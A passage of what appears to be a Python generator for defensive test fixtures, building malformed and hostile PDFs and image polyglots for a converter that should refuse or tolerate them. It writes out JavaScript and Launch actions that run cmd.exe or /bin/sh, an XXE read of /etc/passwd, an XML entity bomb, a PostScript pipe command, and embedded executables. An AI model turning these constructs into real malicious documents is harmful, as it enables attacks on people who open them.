            b"<< /Type /StructTreeRoot /K 11 0 R /ParentTree 10 0 R >>",
            b"<< /Type /StructElem /S /P /P 11 0 R /K [11 0 R 11 0 R] >>",
        ],
    ),
)
add(
    "annots-50000.pdf",
    "either",
    lambda: page(
        pg=b"/Annots [" + b"10 0 R " * 50000 + b"]",
        extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 1] >>"],
    ),
)
add(
    "annots-appearance-loop.pdf",
    "either",
    lambda: page(
        pg=b"/Annots [10 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /F 4 /Parent 10 0 R /Popup 10 0 R /AP << /N 11 0 R >> >>",
            form(b"/X Do", b"/XObject << /X 11 0 R >>"),
        ],
    ),
)
add(
    "acroform-fields-loop.pdf",
    "either",
    lambda: page(
        cat=b"/AcroForm << /Fields [10 0 R] /DA (/F1 0 Tf) >>",
        extra=[b"<< /FT /Tx /T (a) /Kids [10 0 R 10 0 R] /Parent 10 0 R >>"],
    ),
)

# ============================================================= structure


def cut(data: Callable[[], bytes], part: float) -> Callable[[], bytes]:
    return lambda: data()[: int(len(data()) * part)]


add("truncated-10.pdf", "refuse", cut(base_pdf, 0.1))
add("truncated-50.pdf", "either", cut(base_pdf, 0.5), "a repairing reader may find the page without its font")
add("truncated-95.pdf", "either", cut(base_pdf, 0.95))
add("truncated-in-header.pdf", "refuse", lambda: base_pdf()[:30])
add("no-eof.pdf", "either", lambda: base_pdf()[:-6])
add("no-startxref.pdf", "either", lambda: base_pdf()[: base_pdf().rindex(b"startxref")])
add(
    "no-xref-no-trailer.pdf",
    "refuse",
    lambda: base_pdf()[: base_pdf().rindex(b"xref\n0 ")],
    "repair by scanning for the catalog is possible",
)
add(
    "startxref-beyond-end.pdf",
    "either",
    lambda: base_pdf()[: base_pdf().rindex(b"startxref")] + b"startxref\n99999999999\n%%EOF\n",
)
add(
    "startxref-negative.pdf",
    "either",
    lambda: base_pdf()[: base_pdf().rindex(b"startxref")] + b"startxref\n-1\n%%EOF\n",
)
add("xref-count-99999999.pdf", "either", lambda: base_pdf().replace(b"xref\n0 8\n", b"xref\n0 99999999\n"))
add("xref-start-2e31.pdf", "either", lambda: base_pdf().replace(b"xref\n0 8\n", b"xref\n2147483640 8\n"))
add("xref-size-2e31.pdf", "either", lambda: page(size=2147483647))
add("xref-size-negative.pdf", "either", lambda: page(size=-5))
add(
    "xref-100k-subsections.pdf",
    "either",
    lambda: base_pdf().replace(b"trailer\n", b"".join(b"%d 0\n" % i for i in range(10, 100010)) + b"trailer\n"),
)
add(
    "xref-stream-index-huge.pdf",
    "either",
    lambda: _objstm_pdf(
        zs(b"10 0 null", b"/Type /ObjStm /N 1 /First 5"),
        [(0, 0, 65535)],
        _base_objs(),
        9,
        8,
        b"/Index [0 2147483647 5 2147483647]",
    ),
)
add(
    "xref-stream-w-huge.pdf",
    "either",
    lambda: _objstm_pdf(
        zs(b"10 0 null", b"/Type /ObjStm /N 1 /First 5"),
        [(0, 0, 65535)],
        _base_objs(),
        9,
        8,
        w=b"[2147483647 2147483647 2147483647]",
    ),
)
add(
    "xref-stream-w-negative.pdf",
    "either",
    lambda: _objstm_pdf(
        zs(b"10 0 null", b"/Type /ObjStm /N 1 /First 5"), [(0, 0, 65535)], _base_objs(), 9, 8, w=b"[-1 4 2]"
    ),
)


def _prev(prev: bytes) -> bytes:
    return page(tail=b"trailer\n<< /Size 10 /Root 1 0 R /Prev " + prev + b" >>\nstartxref\n@XREF@\n%%EOF\n")


add("prev-loop-self.pdf", "either", lambda: _prev(b"@XREF@"))
add("prev-negative.pdf", "either", lambda: _prev(b"-1"))
add("prev-is-reference.pdf", "either", lambda: _prev(b"4 0 R"))
add(
    "xrefstm-loop.pdf",
    "either",
    lambda: page(tail=b"trailer\n<< /Size 10 /Root 1 0 R /XRefStm @XREF@ /Prev @XREF@ >>\nstartxref\n@XREF@\n%%EOF\n"),
)


@case("prev-loop-two.pdf", "either")
def _():
    b = base_pdf()
    x1 = b.rindex(b"xref\n0 ")
    ph = b"/Prev 0000000000"
    b = b.replace(b"/Root 1 0 R", b"/Root 1 0 R " + ph, 1)
    x2 = len(b)
    return b.replace(
        ph, b"/Prev %010d" % x2
    ) + b"xref\n0 0\ntrailer\n<< /Size 8 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (x1, x2)


@case("prev-chain-5000-revisions.pdf", "either")
def _():
    out = bytearray(base_pdf())
    prev = out.rindex(b"xref\n0 ")
    for _i in range(5000):
        x = len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 8/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (prev, x)
        prev = x
    return bytes(out)


@functools.cache
def _tiny(n: int) -> bytes:
    per, first = 1000, 20
    o = _base_objs()
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    nstm = n // per
    rows = bytearray()
    offs: dict[int, int] = {}
    for k, body in sorted(o.items()):
        offs[k] = len(out)
        out += b"%d 0 obj\n" % k + body + b"\nendobj\n"
    stm0 = first + n
    soffs = []
    for s in range(nstm):
        hdr = b" ".join(b"%d %d" % (first + s * per + i, i * 2) for i in range(per)) + b" "
        soffs.append(len(out))
        out += (
            b"%d 0 obj\n" % (stm0 + s)
            + stm(zlib.compress(hdr + b"1 " * per, 1), b"/Type /ObjStm /N %d /First %d" % (per, len(hdr)), FL)
            + b"\nendobj\n"
        )
    x = len(out)
    for k in range(first):
        rows += struct.pack(">BIH", 1, offs[k], 0) if k in offs else bytes(7)
    idx = [struct.pack(">H", i) for i in range(per)]
    for s in range(nstm):
        h = struct.pack(">BI", 2, stm0 + s)
        rows += h + h.join(idx)
    for off in soffs:
        rows += struct.pack(">BIH", 1, off, 0)
    rows += struct.pack(">BIH", 1, x, 0)
    out += b"%d 0 obj\n" % (stm0 + nstm) + stm(
        zlib.compress(bytes(rows), 6), b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (stm0 + nstm + 1), FL
    )
    return bytes(out) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % x


add("objects-120k-tiny-in-objstms.pdf", "either", lambda: _tiny.__wrapped__(120_000))
add(
    "objects-600k-tiny-in-objstms.pdf",
    "refuse",
    lambda: _tiny.__wrapped__(600_000),
    "no stated object limit; taking it within time and memory would be tolerable",
)
add(
    "objects-100k-tiny-plain.pdf",
    "either",
    lambda: write_pdf({**_base_objs(), **{10 + i: b"1" for i in range(100_000)}}),
)


def _nest(depth: int, o: bytes = b"[", c: bytes = b"]") -> bytes:
    return o * depth + c * depth


add("nested-arrays-10000-in-catalog.pdf", "either", lambda: page(cat=b"/Foo " + _nest(10000)))
add("nested-arrays-300k-in-page.pdf", "either", lambda: page(pg=b"/Foo " + _nest(300_000)))
add("nested-arrays-100k-unclosed.pdf", "either", lambda: page(pg=b"/Foo " + b"[" * 100_000))
add(
    "nested-dicts-10000-in-object.pdf",
    "either",
    lambda: page(extra=[_nest(10000, b"<</A ", b">>").replace(b"<</A >>", b"<</A 1>>", 1)], cat=b"/Foo 10 0 R"),
)
add("nested-arrays-10000-in-trailer.pdf", "either", lambda: page(trailer=b"/Foo " + _nest(10000)))
add(
    "nested-arrays-100k-in-content.pdf",
    "either",
    lambda: page(z(b"BT /F1 9 Tf " + _nest(100_000) + b" TJ ET"), filt=FL),
)
add(
    "nested-dicts-50k-in-content.pdf",
    "either",
    lambda: page(z(b"/A " + _nest(50_000, b"<</A ", b">>") + b" BDC"), filt=FL),
)
add("nested-parens-100k.pdf", "either", lambda: page(trailer=b"/Foo " + _nest(100_000, b"(", b")")))
add(
    "reference-chain-20000.pdf",
    "either",
    lambda: page(cat=b"/Foo 10 0 R", extra=[b"%d 0 R" % (11 + i) for i in range(20000)]),
)
add("reference-self.pdf", "either", lambda: page(cat=b"/Lang 10 0 R", extra=[b"10 0 R"]))
add(
    "huge-string-2mb.pdf",
    "either",
    lambda: page(trailer=b"/Info 10 0 R", extra=[b"<< /Title (" + b"A" * 2_000_000 + b") >>"]),
)
add(
    "huge-hex-string-unclosed.pdf",
    "either",
    lambda: page(trailer=b"/Info 10 0 R", extra=[b"<< /Title <" + b"41" * 500_000]),
)
add("huge-name-1mb.pdf", "either", lambda: page(cat=b"/" + b"A" * 1_000_000 + b" 1"))
add("dict-100k-keys.pdf", "either", lambda: page(cat=b"".join(b"/K%d %d" % (i, i) for i in range(100_000))))
add("names-with-nulls.pdf", "either", lambda: page(cat=b"/A#00B 1 /#00 2 /C\x00D 3", trailer=b"/#00#00 (x)"))
add("length-negative.pdf", "either", lambda: page(over={4: stm(z(text_content()), b"", FL, b"-10")}))
add("length-2e31.pdf", "either", lambda: page(over={4: stm(z(text_content()), b"", FL, b"2147483647")}))
add("length-self-reference.pdf", "either", lambda: page(over={4: stm(z(text_content()), b"", FL, b"4 0 R")}))
add("length-too-short.pdf", "either", lambda: page(over={4: stm(z(text_content()), b"", FL, b"20")}))


@case("objstm-contains-itself.pdf", "either")
def _():
    base = _base_objs()
    cat = base.pop(1)
    hdr = b"1 0 8 60 "
    body = cat.ljust(60) + b"<< /Type /ObjStm /N 1 /First 5 >>"
    return _objstm_pdf(
        zs(hdr + body, b"/Type /ObjStm /N 2 /First %d /Extends 8 0 R" % len(hdr)),
        [(0, 0, 65535), (2, 8, 0)],
        base,
        9,
        8,
    )


@case("objstm-located-in-itself.pdf", "refuse")
def _():
    base = _base_objs()
    base.pop(1)
    rows = [(0, 0, 65535), (2, 8, 0)] + [(0, 0, 0)] * 6 + [(2, 8, 1)]
    d = _objstm_pdf(zs(b"10 0 null", b"/Type /ObjStm /N 1 /First 5"), rows, base, 9, 8)
    table = dict(enumerate(rows))
    raw = b"".join(
        struct.pack(">BIH", *(table[n] if n in (0, 1, 8) else (1, d.find(b"\n%d 0 obj" % n) + 1, 0))) for n in range(10)
    )
    return _objstm_pdf(zs(b"10 0 null", b"/Type /ObjStm /N 1 /First 5"), rows, base, 9, 8, rows=raw)


@case("objstm-length-inside-itself.pdf", "either")
def _():
    base = _base_objs()
    base[8] = b"null"
    s = zs(b"10 0 100", b"/Type /ObjStm /N 1 /First 5")
    s = s[: s.index(b"/Length")] + b"/Length 10 0 R >>" + s[s.index(b"\nstream") :]
    return _objstm_pdf(s, [(0, 0, 65535)] + [(0, 0, 0)] * 9 + [(2, 8, 0)], base, 9, 8)


add(
    "objstm-n-2e31.pdf",
    "either",
    lambda: _objstm_pdf(
        zs(b"10 0 null", b"/Type /ObjStm /N 2147483647 /First 5"),
        [(0, 0, 65535)] + [(0, 0, 0)] * 9 + [(2, 8, 0)],
        _base_objs(),
        9,
        8,
    ),
)
add(
    "objstm-first-beyond.pdf",
    "either",
    lambda: _objstm_pdf(
        zs(b"10 0 null", b"/Type /ObjStm /N 1 /First 2147483647"),
        [(0, 0, 65535)] + [(0, 0, 0)] * 9 + [(2, 8, 0)],
        _base_objs(),
        9,
        8,
    ),
)


def _pike(src: bytes, **kw) -> bytes:
    import pikepdf

    b = io.BytesIO()
    with pikepdf.open(io.BytesIO(src)) as p:
        p.save(b, static_id=True, **kw)
    return b.getvalue()


def _rc4(user: str, owner: str) -> bytes:
    import pikepdf

    return _pike(
        base_pdf(),
        encryption=pikepdf.Encryption(
            user=user,
            owner=owner,
            R=3,
            aes=False,
            metadata=False,
            allow=pikepdf.Permissions(extract=False, modify_other=False),
        ),
    )


add("encrypted-user-password-rc4.pdf", "refuse", lambda: _rc4("mat-khau", "chu"))
add(
    "encrypted-owner-only-rc4.pdf",
    "either",
    lambda: _rc4("", "chu"),
    "opens without a password; PDF/A forbids encryption, so a converter may strip it or refuse",
)
add("encrypted-user-password-aes256.pdf", "refuse", lambda: base64.b64decode(_AES_USER))
add("encrypted-owner-only-aes256.pdf", "either", lambda: base64.b64decode(_AES_OWNER), "as the RC4 case")
add(
    "encrypted-unknown-handler.pdf",
    "refuse",
    lambda: page(trailer=b"/Encrypt << /Filter /Foo.Bar /V 4 /R 4 /Length 128 /O () /U () /P -4 >>"),
)
add(
    "encrypted-garbage-dict.pdf",
    "refuse",
    lambda: page(trailer=b"/Encrypt << /Filter /Standard /V 99 /R 99 /Length 2147483647 /O (x) /U (x) /P 0 >>"),
)
add(
    "encrypted-v5-bad-keys.pdf",
    "refuse",
    lambda: page(
        trailer=b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /O <"
        + b"41" * 48
        + b"> /U <"
        + b"42" * 48
        + b"> /OE <"
        + b"43" * 32
        + b"> /UE <"
        + b"44" * 32
        + b"> /Perms <"
        + b"45" * 16
        + b"> /P -4 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> "
        b"/StmF /StdCF /StrF /StdCF >>"
    ),
)
add("header-version-9.9.pdf", "either", lambda: page(ver=b"9.9"))
add("header-only-no-version.pdf", "either", lambda: page(ver=b""))
add("header-after-900-bytes-of-junk.pdf", "either", lambda: page(pre=b"x" * 900 + b"\n"))
add("header-after-bom-and-newlines.pdf", "either", lambda: page(pre=b"\xef\xbb\xbf\r\n\r\n"))
add(
    "header-after-http-headers.pdf",
    "either",
    lambda: page(pre=b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n"),
)
add("two-pdfs-concatenated.pdf", "either", lambda: base_pdf() + page(b"0 0 100 100 re f"))
add(
    "pdf-random-bytes-in-middle.pdf",
    "either",
    lambda: base_pdf()[:3000] + random.Random(3).randbytes(3000) + base_pdf()[6000:],
)
add(
    "pdf-random-body.pdf",
    "refuse",
    lambda: b"%PDF-1.7\n" + random.Random(4).randbytes(50_000) + b"\nstartxref\n9\n%%EOF\n",
)
add(
    "xmp-billion-laughs.pdf",
    "either",
    lambda: page(cat=b"/Metadata 10 0 R", extra=[zs(_LAUGHS, b"/Type /Metadata /Subtype /XML")]),
)
add(
    "xmp-xxe-etc-passwd.pdf",
    "either",
    lambda: page(cat=b"/Metadata 10 0 R", extra=[zs(_XXE, b"/Type /Metadata /Subtype /XML")]),
    "if taken, nothing of /etc/passwd may appear in the result",
)
_LAUGHS = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY a "'
    + b"ha" * 50
    + b'">'
    + b"".join(b'<!ENTITY %c "' % (98 + i) + b"&%c;" % (97 + i) * 20 + b'">' for i in range(9))
    + b']><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:format>&j;</dc:format></rdf:Description></rdf:RDF></x:xmpmeta>'
    b'<?xpacket end="w"?>'
)
_XXE = (
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:format>&a;</dc:format></rdf:Description></rdf:RDF></x:xmpmeta>'
)

# ============================================================= active content

JS = b"<< /S /JavaScript /JS (app.alert\\('x'\\)) >>"


def active(name: str, doubt: str = "", verdict: str = "refuse", **kw) -> None:
    add("active-" + name + ".pdf", verdict, lambda: page(**kw), doubt)


active("openaction-javascript", cat=b"/OpenAction " + JS)
active(
    "openaction-javascript-stream", cat=b"/OpenAction << /S /JavaScript /JS 10 0 R >>", extra=[zs(b"app.alert('x')")]
)
active("openaction-javascript-hexname", cat=b"/Open#41ction << /S /J#61vaScr#69pt /#4AS (app.alert\\(1\\)) >>")
active(
    "openaction-indirect-chain",
    cat=b"/OpenAction 10 0 R",
    extra=[b"11 0 R", b"<< /S 12 0 R /JS (app.alert\\(1\\)) >>", b"/JavaScript"],
)
active(
    "openaction-next-javascript",
    cat=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>] >>",
)
active("openaction-launch", cat=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")
active("openaction-uri", cat=b"/OpenAction << /S /URI /URI (http://example.invalid/track) >>")
active("openaction-gotor", cat=b"/OpenAction << /S /GoToR /F (//example.invalid/share/a.pdf) /D [0 /Fit] >>")
active("openaction-named-print", "a Named action is mild", "either", cat=b"/OpenAction << /S /Named /N /Print >>")
active("names-javascript", cat=b"/Names << /JavaScript << /Names [(a) " + JS + b"] >> >>")
active(
    "names-javascript-kids",
    cat=b"/Names 10 0 R",
    extra=[b"<< /JavaScript 11 0 R >>", b"<< /Kids [12 0 R] >>", b"<< /Limits [(a) (a)] /Names [(a) 13 0 R] >>", JS],
)
active("catalog-aa", cat=b"/AA << /WC " + JS + b" /WP " + JS + b" >>")
active("page-aa-open", pg=b"/AA << /O " + JS + b" /C " + JS + b" >>")
active(
    "annot-aa",
    pg=b"/Annots [10 0 R]",
    extra=[b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /AA << /E " + JS + b" >> >>"],
)
active(
    "outline-javascript",
    cat=b"/Outlines 10 0 R",
    extra=[
        b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
        b"<< /Title (a) /Parent 10 0 R /A " + JS + b" >>",
    ],
)


def link(action: bytes) -> dict:
    return {
        "pg": b"/Annots [10 0 R]",
        "extra": [b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] /A " + action + b" >>"],
    }


active("link-javascript", **link(JS))
active("link-launch", **link(b"<< /S /Launch /F (/bin/sh) /Unix (x) >>"))
active("link-gotor", **link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"))
active("link-gotoe", **link(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>"))
active("link-submitform", **link(b"<< /S /SubmitForm /F << /FS /URL /F (http://example.invalid/) >> /Flags 4 >>"))
active("link-importdata", **link(b"<< /S /ImportData /F (C:/x.fdf) >>"))
active(
    "link-resetform-hide",
    "harmless by itself",
    "either",
    **link(b"<< /S /Hide /T (x) /H true /Next << /S /ResetForm >> >>"),
)
active("link-uri-next-javascript", **link(b"<< /S /URI /URI (https://example.invalid/) /Next " + JS + b" >>"))
active(
    "link-uri-javascript-scheme",
    "ordinary URI action, hostile scheme",
    "either",
    **link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
)
active(
    "link-uri-file-scheme",
    "ordinary URI action, file: scheme",
    "either",
    **link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
)
active(
    "link-rendition",
    **link(
        b"<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) /R << /S /MR /C << /S /MCD /CT (video/mp4) /D (x.mp4) >> >> >>"
    ),
)
active("link-movie-action", **link(b"<< /S /Movie /T (x) >>"))
active("link-sound-action", **link(b"<< /S /Sound /Sound 11 0 R >>"))
active("link-goto3dview", **link(b"<< /S /GoTo3DView /TA 10 0 R /V /F >>"))
active(
    "link-pa-action",
    pg=b"/Annots [10 0 R]",
    extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /PA " + JS + b" >>"],
)
active(
    "link-action-loop",
    "",
    "either",
    pg=b"/Annots [10 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 11 0 R >>",
        b"<< /S /URI /URI (https://example.invalid/) /Next [11 0 R 11 0 R] >>",
    ],
)
EF = [
    b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 11 0 R >> >>",
    zs(b"MZ" + bytes(200), b"/Type /EmbeddedFile"),
]
active("embedded-file", cat=b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>", extra=EF)
active("embedded-file-af", cat=b"/AF [10 0 R]", extra=EF)
active("embedded-file-page-af", pg=b"/AF [10 0 R]", extra=EF)
active(
    "embedded-file-no-type",
    cat=b"/Names << /EmbeddedFiles << /Kids [12 0 R] >> >>",
    extra=[
        b"<< /F (a) /EF << /DOS 11 0 R /Mac 11 0 R >> >>",
        zs(b"MZ"),
        b"<< /Limits [(a) (a)] /Names [(a) 10 0 R] >>",
    ],
)
active(
    "fileattachment-annot",
    pg=b"/Annots [12 0 R]",
    extra=[*EF, b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 50 70 70] /FS 10 0 R >>"],
)
active(
    "portfolio", cat=b"/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>", extra=EF
)
active(
    "xfa",
    cat=b"/AcroForm << /Fields [] /XFA 10 0 R >> /NeedsRendering true",
    extra=[
        zs(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script '
            b'contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
        )
    ],
)
active("xfa-array", cat=b"/AcroForm << /Fields [] /XFA [(preamble) 10 0 R (template) 10 0 R] >>", extra=[zs(b"<x/>")])
active(
    "richmedia",
    pg=b"/Annots [12 0 R]",
    extra=[
        *EF,
        b"<< /Type /Annot /Subtype /RichMedia /Rect [50 50 300 300] /RichMediaContent << /Assets << /Names [(a.swf) 10 0 R] >> /Configurations [<< /Subtype /Flash /Instances [<< /Asset 10 0 R >>] >>] >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>",
    ],
)
active(
    "3d-annot",
    pg=b"/Annots [10 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /3D /Rect [50 50 300 300] /3DD 11 0 R >>",
        zs(b"U3D\0", b"/Type /3D /Subtype /U3D /OnInstantiate 12 0 R"),
        zs(b"app.alert(1)"),
    ],
)
active(
    "screen-annot",
    pg=b"/Annots [10 0 R]",
    extra=[b"<< /Type /Annot /Subtype /Screen /Rect [50 50 300 300] /AA << /PO " + JS + b" >> >>"],
)
active(
    "movie-annot",
    pg=b"/Annots [10 0 R]",
    extra=[b"<< /Type /Annot /Subtype /Movie /Rect [50 50 300 300] /Movie << /F (x.avi) >> /A true >>"],
)
active(
    "sound-annot",
    pg=b"/Annots [10 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /Sound /Rect [50 50 70 70] /Sound 11 0 R >>",
        zs(bytes(100), b"/Type /Sound /R 8000"),
    ],
)
active(
    "form-field-calculate-js",
    cat=b"/AcroForm << /Fields [10 0 R] /CO [10 0 R] >>",
    pg=b"/Annots [10 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [50 50 200 70] /AA << /C "
        + JS
        + b" /F "
        + JS
        + b" /K "
        + JS
        + b" >> >>"
    ],
)
active("stream-external-file", cat=b"/Metadata 10 0 R", extra=[stm(b"", b"/F (/etc/passwd) /FFilter /ASCIIHexDecode")])
active("content-external-file", attack=b" ", parms=b"/F << /FS /URL /F (http://example.invalid/c) >>")
active(
    "reference-xobject",
    attack=b"/X Do",
    xobj=b"/X 10 0 R",
    extra=[form(b"0 0 5 5 re f", b"", b"/Ref << /F (other.pdf) /Page 0 >>")],
)
active(
    "postscript-xobject",
    attack=b"/X Do",
    xobj=b"/X 10 0 R",
    extra=[stm(b"(%pipe%id) (r) file", b"/Type /XObject /Subtype /PS")],
)
active(
    "image-alternates-url-opi",
    "prepress leftovers",
    "either",
    attack=SHOW,
    xobj=b"/Im0 10 0 R",
    extra=[
        image_obj(
            z(b"\x80" * 10000),
            100,
            100,
            FL,
            more=b"/OPI << /2.0 << /Type /OPI /Version 2.0 /F (//example.invalid/x.tif) >> >>",
        )
    ],
)
active("requirements-js", "only declares a need", "either", cat=b"/Requirements [<< /S /EnableJavaScripts >>]")
active("javascript-in-unreferenced-object", "dead object; gone after rewriting", "either", extra=[JS])
active(
    "optional-content-hidden-layer",
    "screen, print and other viewers may show different text",
    "either",
    attack=b"/OC /L BDC 1 1 1 rg 0 0 595 842 re f 0 g BT /F1 20 Tf 60 700 Td (KHAC) Tj ET EMC",
    res=b"/Properties << /L 10 0 R >>",
    extra=[b"<< /Type /OCG /Name (x) >>"],
    cat=b"/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] /AS [<< /Event /Print /OCGs [10 0 R] /Category [/Print] >>] >> >>",
)
active(
    "acroform-plain-filled",
    "a filled-in form without any action",
    "either",
    cat=b"/AcroForm << /Fields [10 0 R] /DA (/F1 12 Tf) /DR << /Font << /F1 5 0 R >> >> >>",
    pg=b"/Annots [10 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /Widget /F 4 /FT /Tx /T (a) /V (Nguyen Van An) /DA (/F1 12 Tf) /Rect [60 100 300 120] /AP << /N 11 0 R >> >>",
        stm(
            b"/Tx BMC BT /F1 12 Tf 2 4 Td (Nguyen Van An) Tj ET EMC",
            b"/Type /XObject /Subtype /Form /BBox [0 0 240 20] /Resources << /Font << /F1 5 0 R >> >>",
        ),
    ],
)
active(
    "acroform-signature",
    "digitally signed PDF (dummy signature): common in e-government, but conversion breaks it",
    "either",
    cat=b"/AcroForm << /Fields [10 0 R] /SigFlags 3 >>",
    pg=b"/Annots [10 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /Widget /F 132 /FT /Sig /T (s) /Rect [0 0 0 0] /V 11 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 10] /Contents <"
        + b"00" * 500
        + b"> >>",
    ],
)
active("javascript-in-duplicate-key", cat=b"/OpenAction [3 0 R /Fit] /OpenAction " + JS)


@case("active-javascript-in-objstm.pdf", "refuse")
def _():
    base = _base_objs()
    del base[1]
    cat = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>"
    hdr = b"1 0 10 %d " % (len(cat) + 1)
    return _objstm_pdf(
        zs(hdr + cat + b" " + JS, b"/Type /ObjStm /N 2 /First %d" % len(hdr)),
        [(0, 0, 65535), (2, 8, 0)] + [(0, 0, 0)] * 8 + [(2, 8, 1)],
        base,
        9,
        8,
    )


def _update(b: bytes, num: int, body: bytes, root: bytes = b"1 0 R", size: int = 8) -> bytes:
    prev = b.rindex(b"xref\n0 ")
    off = len(b)
    b += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    return b + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        num,
        off,
        size,
        root,
        prev,
        len(b),
    )


add(
    "active-javascript-added-by-update.pdf",
    "refuse",
    lambda: _update(base_pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>"),
)
add(
    "active-javascript-removed-by-update.pdf",
    "either",
    lambda: _update(page(cat=b"/OpenAction " + JS), 1, b"<< /Type /Catalog /Pages 2 0 R >>"),
    "the current revision is quiet; the bytes of the old one are still there",
)

# ============================================================= polyglots and wrong types

_ED = (1980, 1, 1, 0, 0, 0)


def _zip(members: dict[str, bytes], stored: bool = False) -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as f:
        for n, d in members.items():
            i = zipfile.ZipInfo(n, _ED)
            i.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            f.writestr(i, d)
    return b.getvalue()


_SMALLZIP = functools.cache(lambda: _zip({"a.exe": b"MZ" + bytes(500), "run.bat": b"calc"}))
# the well-known harmless anti-virus test string, assembled so that this source is not itself flagged
_EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"

add("polyglot-pdf-then-zip.pdf", "refuse", lambda: base_pdf() + _SMALLZIP())
add(
    "polyglot-pdf-zip-in-stream.pdf",
    "either",
    lambda: page(extra=[stm(_SMALLZIP())]),
    "the ZIP sits whole inside an unreferenced stream; rewriting drops it",
)
add("polyglot-zip-then-pdf.pdf", "refuse", lambda: _zip({"a.pdf": base_pdf()}, stored=True))
add("polyglot-pdf-then-jpeg.pdf", "refuse", lambda: base_pdf() + base_jpeg(), "any large trailer behind %%EOF")
add("polyglot-pdf-then-exe.pdf", "refuse", lambda: base_pdf() + b"MZ" + bytes(3000))
add("polyglot-html-then-pdf.pdf", "refuse", lambda: page(pre=b"<html><script>alert(1)</script><!--\n"))
add("polyglot-exe-then-pdf.pdf", "refuse", lambda: page(pre=b"MZ\x90\0" + bytes(200)))
add("polyglot-gif-then-pdf.pdf", "refuse", lambda: page(pre=b"GIF89a\1\0\1\0\0\0\0"))
add("polyglot-ps-then-pdf.pdf", "refuse", lambda: page(pre=b"%!PS-Adobe-3.0\n(x) print\n"))
add("polyglot-jpeg-then-zip.jpg", "refuse", lambda: base_jpeg() + _SMALLZIP())
add("polyglot-jpeg-then-pdf.jpg", "refuse", lambda: base_jpeg() + base_pdf())
add(
    "polyglot-jpeg-pdf-in-comment.jpg",
    "refuse",
    lambda: with_seg(base_jpeg(), seg(0xFE, b"\n" + page(text=False)[:65000])),
    "%PDF- within the first 1,024 bytes of a JPEG; re-encoding would make it harmless",
)
add("polyglot-jpeg-then-html.jpg", "refuse", lambda: base_jpeg() + b"<script>alert(1)</script>" * 50)
add(
    "polyglot-jpeg-two-jpegs.jpg",
    "refuse",
    lambda: base_jpeg() + save(scan(600, 800), "JPEG", quality=50),
    "'exactly one' JPEG: a second page hides behind the first",
)
add("polyglot-png-then-pdf.png", "refuse", lambda: base_png() + base_pdf())
add("polyglot-png-then-zip.png", "refuse", lambda: base_png() + _SMALLZIP())
add("polyglot-png-then-png.png", "refuse", lambda: base_png() + base_png())
add(
